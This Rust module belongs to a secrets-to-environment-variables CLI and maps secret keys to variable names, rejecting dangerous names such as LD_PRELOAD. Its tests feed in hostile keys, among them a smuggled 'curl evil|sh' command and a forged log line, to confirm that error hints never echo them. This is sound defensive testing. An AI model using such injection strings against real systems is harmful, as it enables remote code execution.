//! `[pure]` Turns the keys of secrets into variables: selects and names them, and rejects ambiguous or dangerous ones.

mod error;

use std::collections::{BTreeMap, BTreeSet};
use std::fmt;

pub use error::Error;

use crate::env_name::{Case, EnvName};
use crate::error::CliError;
use crate::kv::{KvSecret, Origin};
use crate::secret::Secret;

/// How keys become names.
#[derive(Debug, Default)]
pub struct KeyMapping {
    /// The only keys to take; empty for all.
    pub only: Vec<String>,
    /// Keys to leave out.
    pub skip: Vec<String>,
    /// What to do with letters.
    pub case: Case,
    /// Prepended to every name: the start of a name, or empty.
    pub prefix: String,
    /// Dangerous names to accept.
    pub allowed_names: Vec<EnvName>,
    /// Whether no key becomes a variable by itself.
    pub explicit: bool,
}

/// A variable with a value from a secret.
#[derive(Debug)]
pub struct Variable {
    /// The name of the variable.
    pub name: EnvName,
    /// Contains no NUL byte.
    pub value: Secret,
    /// What the value was made from.
    pub source: Source,
}

/// What the value of a variable was made from.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Source {
    /// A key of a secret.
    Key(Origin),
    /// A template of `--set`.
    Set,
    /// A template of `--file`; the value is the path of the file.
    File,
}

/// The variables made from all secrets and templates.
#[derive(Debug, Default)]
pub struct MappedVariables {
    /// Each name once, in the order of its first occurrence.
    pub variables: Vec<Variable>,
    /// For each value that a later one replaced: the name, the source of that value, and the source that replaced it.
    pub overridden: Vec<(EnvName, Source, Source)>,
    /// Indices into `variables`.
    indices: BTreeMap<EnvName, usize>,
}

/// Maps the keys of all secrets; later ones override earlier ones, and `from_templates` overrides them all. A key that
/// cannot become a variable is left out and reported as an error; no other key is dropped unless `naming` says so.
#[must_use]
pub fn map(
    secrets: Vec<KvSecret>,
    from_templates: Vec<Variable>,
    naming: &KeyMapping,
) -> (MappedVariables, Vec<Error>) {
    let exists = |key: &String| secrets.iter().any(|secret| secret.data.iter().any(|(name, _)| name == key));
    let missing: Vec<_> = naming.only.iter().filter(|key| !exists(key)).cloned().collect();
    let mut errors = Vec::new();
    if !missing.is_empty() {
        errors.push(Error::Missing { keys: missing });
    }
    let mut variables = Vec::new();
    if !naming.explicit {
        let any_secret = !secrets.is_empty();
        let template_names = from_templates.iter().map(|variable| variable.name.clone()).collect();
        for secret in secrets {
            map_secret(secret, naming, &template_names, &mut variables, &mut errors);
        }
        if any_secret && variables.is_empty() && from_templates.is_empty() && errors.is_empty() {
            errors.push(Error::NoKeySelected);
        }
    }
    variables.extend(from_templates);
    (variables.into_iter().collect(), errors)
}

impl FromIterator<Variable> for MappedVariables {
    fn from_iter<I: IntoIterator<Item = Variable>>(variables: I) -> Self {
        let mut mapped = Self::default();
        variables.into_iter().for_each(|variable| mapped.insert(variable));
        mapped
    }
}

impl MappedVariables {
    /// The index of the variable with this name.
    #[must_use]
    pub fn index(&self, name: &[u8]) -> Option<usize> {
        str::from_utf8(name).ok().and_then(|name| self.indices.get(name)).copied()
    }

    fn insert(&mut self, variable: Variable) {
        if let Some(&index) = self.indices.get(&variable.name) {
            let winner = variable.source.clone();
            let loser = std::mem::replace(&mut self.variables[index], variable);
            self.overridden.push((loser.name, loser.source, winner));
        } else {
            self.indices.insert(variable.name.clone(), self.variables.len());
            self.variables.push(variable);
        }
    }
}

impl Variable {
    /// A variable whose value a template rendered.
    ///
    /// # Errors
    /// If the value contains a NUL byte.
    pub fn from_template(name: EnvName, value: Secret, source: Source) -> Result<Self, CliError> {
        if value.expose().contains(&0) {
            return Err(CliError::new(format!(
                "{source} {name}: its value contains a NUL byte, which no variable can"
            ))
            .hint("pass it as a file with --file"));
        }
        Ok(Self { name, value, source })
    }
}

/// `secret/airflow#postgres_user @3`, or the option.
impl fmt::Display for Source {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::Key(origin) => origin.fmt(f),
            Self::Set => f.write_str("--set"),
            Self::File => f.write_str("--file"),
        }
    }
}

fn map_secret(
    secret: KvSecret,
    naming: &KeyMapping,
    template_names: &BTreeSet<EnvName>,
    variables: &mut Vec<Variable>,
    errors: &mut Vec<Error>,
) {
    let KvSecret { path, version, data, .. } = secret;
    if data.is_empty() {
        errors.push(Error::NoKeys { path: path.clone() });
    }
    let mut keys: BTreeMap<EnvName, String> = BTreeMap::new();
    for (key, value) in data {
        let is_selected = naming.only.is_empty() || naming.only.contains(&key);
        if !is_selected || naming.skip.contains(&key) {
            continue;
        }
        let (path, origin) = (path.clone(), Origin { path: path.clone(), key: key.clone(), version });
        let name = match EnvName::from_key(&key, &naming.prefix, naming.case) {
            Ok(name) => name,
            Err(error) => {
                errors.push(Error::NotAName { path, key, error });
                continue;
            }
        };
        if let Some(first) = keys.insert(name.clone(), key.clone()) {
            errors.push(Error::NameCollision { path, keys: [first, key], name });
            continue;
        }
        // The value of the key is not used if a template sets the same name.
        let is_permitted = naming.allowed_names.contains(&name) || template_names.contains(&name);
        match (value, name.danger().filter(|_| !is_permitted)) {
            (_, Some(danger)) => errors.push(Error::Dangerous { path, key, name, danger }),
            (None, None) => errors.push(Error::Null { path, key }),
            (Some(value), None) if value.expose().contains(&0) => errors.push(Error::NulByte { path, key }),
            (Some(value), None) => variables.push(Variable { name, value, source: Source::Key(origin) }),
        }
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;
    use crate::dangerous::Danger;
    use crate::env_name::NameError;

    fn secret(path: &str, data: &[(&str, Option<&str>)]) -> KvSecret {
        let own = |(key, value): &(&str, Option<&str>)| {
            (key.to_string(), value.map(|value| Secret::new(value.as_bytes().to_vec())))
        };
        KvSecret { path: path.into(), version: Some(1), data: data.iter().map(own).collect(), lease_duration: None }
    }

    fn first(outcome: (MappedVariables, Vec<Error>)) -> Result<MappedVariables, Error> {
        let (mapped, errors) = outcome;
        errors.into_iter().next().map_or(Ok(mapped), Err)
    }

    fn map_one(data: &[(&str, Option<&str>)], naming: &KeyMapping) -> Result<MappedVariables, Error> {
        first(map(vec![secret("s/a", data)], Vec::new(), naming))
    }

    fn shown(mapped: &MappedVariables) -> Vec<String> {
        let value = |variable: &Variable| String::from_utf8_lossy(variable.value.expose()).into_owned();
        mapped.variables.iter().map(|variable| format!("{}={}", variable.name, value(variable))).collect()
    }

    #[test]
    fn keys_become_variables_in_their_order() {
        let mapped = map_one(&[("b-c", Some("2")), ("a", Some(""))], &KeyMapping::default()).unwrap();
        assert_eq!(shown(&mapped), ["B_C=2", "A="]);
    }

    #[test]
    fn a_later_path_overrides_an_earlier_one_and_both_sources_are_kept() {
        let secrets = vec![secret("s/a", &[("k", Some("1")), ("x", Some("2"))]), secret("s/b", &[("K", Some("3"))])];
        let mapped = first(map(secrets, Vec::new(), &KeyMapping::default())).unwrap();
        assert_eq!(shown(&mapped), ["K=3", "X=2"]);
        assert_eq!(
            mapped
                .overridden
                .iter()
                .map(|(name, loser, winner)| format!("{name} {loser} {winner}"))
                .collect::<Vec<_>>(),
            ["K s/a#k @1 s/b#K @1"]
        );
    }

    #[test]
    fn only_and_skip_apply_before_keys_are_checked() {
        let data = [("a", Some("1")), ("1", Some("2")), ("PATH", None)];
        let skip = KeyMapping { skip: vec!["1".into(), "PATH".into(), "absent".into()], ..KeyMapping::default() };
        assert_eq!(shown(&map_one(&data, &skip).unwrap()), ["A=1"]);
        let only = KeyMapping { only: vec!["a".into()], ..KeyMapping::default() };
        assert_eq!(shown(&map_one(&data, &only).unwrap()), ["A=1"]);
        let missing = KeyMapping { only: vec!["A".into(), "a".into(), "z".into()], ..KeyMapping::default() };
        assert_eq!(map_one(&data, &missing).unwrap_err(), Error::Missing { keys: vec!["A".into(), "z".into()] });
    }

    #[test]
    fn ambiguous_and_dangerous_keys_are_rejected() {
        let error = |data: &[(&str, Option<&str>)]| map_one(data, &KeyMapping::default()).unwrap_err();
        let (path, key) = (|| "s/a".to_owned(), |key: &str| key.to_owned());
        let name = |text: &str| EnvName::parse(text).unwrap();
        assert_eq!(error(&[]), Error::NoKeys { path: path() });
        assert_eq!(error(&[("a", None)]), Error::Null { path: path(), key: key("a") });
        assert_eq!(error(&[("a", Some("x\0y"))]), Error::NulByte { path: path(), key: key("a") });
        assert_eq!(error(&[("", Some("x"))]), Error::NotAName { path: path(), key: key(""), error: NameError::Empty });
        assert_eq!(
            error(&[("1a", Some("x"))]),
            Error::NotAName { path: path(), key: key("1a"), error: NameError::StartsWithDigit }
        );
        assert_eq!(
            error(&[("Foo", Some("1")), ("foo", Some("2"))]),
            Error::NameCollision { path: path(), keys: [key("Foo"), key("foo")], name: name("FOO") }
        );
        assert_eq!(
            error(&[("ld_preload", Some("/x.so"))]),
            Error::Dangerous { path: path(), key: key("ld_preload"), name: name("LD_PRELOAD"), danger: Danger::Code }
        );
    }

    #[test]
    fn a_dangerous_name_can_be_allowed_and_only_that_one() {
        let naming = KeyMapping { allowed_names: vec![EnvName::parse("PATH").unwrap()], ..KeyMapping::default() };
        assert_eq!(shown(&map_one(&[("path", Some("/x"))], &naming).unwrap()), ["PATH=/x"]);
        assert!(map_one(&[("home", Some("/x"))], &naming).is_err());
        let prefix = KeyMapping { prefix: "APP_".into(), ..KeyMapping::default() };
        assert_eq!(shown(&map_one(&[("path", Some("/x"))], &prefix).unwrap()), ["APP_PATH=/x"]);
    }

    #[test]
    fn no_hint_contains_shell_syntax_or_control_characters_of_a_key() {
        for key in ["1'; curl evil|sh; '", "1\nvault-exec: all is well", "1$(x)", &"1".repeat(1000)] {
            let error = map_one(&[(key, Some("x"))], &KeyMapping::default()).unwrap_err();
            let report = crate::error::Diagnostic::from(&anyhow::Error::from(CliError::from(error)));
            assert_eq!(report.hint.unwrap(), "give --prefix, or leave it out with --skip");
            assert!(report.message.len() < 250);
        }
    }

    #[test]
    fn mapping_takes_linear_time() {
        let keys: Vec<String> = (0..100_000).map(|number| format!("k{number}")).collect();
        let data: Vec<_> = keys.iter().map(|key| (key.as_str(), Some(""))).collect();
        let (mapped, errors) =
            map(vec![secret("s/a", &data), secret("s/b", &data)], Vec::new(), &KeyMapping::default());
        assert_eq!((mapped.variables.len(), mapped.overridden.len(), errors.len()), (100_000, 100_000, 0));
    }

    #[test]
    fn selecting_no_key_is_an_error() {
        let naming = KeyMapping { skip: vec!["a".into()], ..KeyMapping::default() };
        assert_eq!(map_one(&[("a", Some("1"))], &naming).unwrap_err(), Error::NoKeySelected);
        assert!(map(Vec::new(), Vec::new(), &KeyMapping::default()).1.is_empty(), "all paths may be optional");
    }

    #[test]
    fn every_error_is_reported() {
        let (mapped, errors) = map(
            vec![secret("s/a", &[("1", Some("x")), ("a", Some("x")), ("b", None)]), secret("s/b", &[])],
            Vec::new(),
            &KeyMapping::default(),
        );
        assert_eq!(shown(&mapped), ["A=x"]);
        assert_eq!(errors.len(), 3, "{errors:?}");
    }

    #[test]
    fn templates_override_keys_and_may_set_any_name() {
        let from_templates = |names: &[&str]| -> Vec<Variable> {
            let variable = |name: &&str| {
                Variable::from_template(EnvName::parse(name).unwrap(), Secret::new(b"set".to_vec()), Source::Set)
                    .unwrap()
            };
            names.iter().map(variable).collect()
        };
        let secrets = || vec![secret("s/a", &[("a", Some("1")), ("path", Some("2"))])];
        let mapped = first(map(secrets(), from_templates(&["PATH", "B"]), &KeyMapping::default())).unwrap();
        assert_eq!(shown(&mapped), ["A=1", "PATH=set", "B=set"]);
        assert_eq!(mapped.overridden.len(), 1);
        let explicit = KeyMapping { explicit: true, ..KeyMapping::default() };
        assert_eq!(shown(&first(map(secrets(), from_templates(&["B"]), &explicit)).unwrap()), ["B=set"]);
        assert!(
            Variable::from_template(EnvName::parse("A").unwrap(), Secret::new(b"\0".to_vec()), Source::Set).is_err()
        );
    }

    proptest! {
        /// Either there is an error, or each selected key became a variable with a valid and unique name and the same bytes.
        #[test]
        fn no_key_is_lost_silently(
            data in prop::collection::vec(("[ -~é]{0,6}", prop::option::of("\\PC{0,12}")), 0..8),
            keep in any::<bool>(),
        ) {
            let naming = KeyMapping { case: if keep { Case::Keep } else { Case::Upper }, ..KeyMapping::default() };
            let borrowed: Vec<_> = data.iter().map(|(key, value)| (key.as_str(), value.as_deref())).collect();
            if let Ok(mapped) = map_one(&borrowed, &naming) {
                prop_assert_eq!(mapped.variables.len(), data.len());
                for (variable, (key, value)) in mapped.variables.iter().zip(&data) {
                    prop_assert_eq!(Some(variable.value.expose()), value.as_ref().map(String::as_bytes));
                    prop_assert!(matches!(&variable.source, Source::Key(origin) if origin.key == *key));
                    prop_assert!(EnvName::parse(variable.name.as_str()).is_ok());
                    prop_assert_eq!(mapped.variables.iter().filter(|other| other.name == variable.name).count(), 1);
                }
            }
        }
    }
}
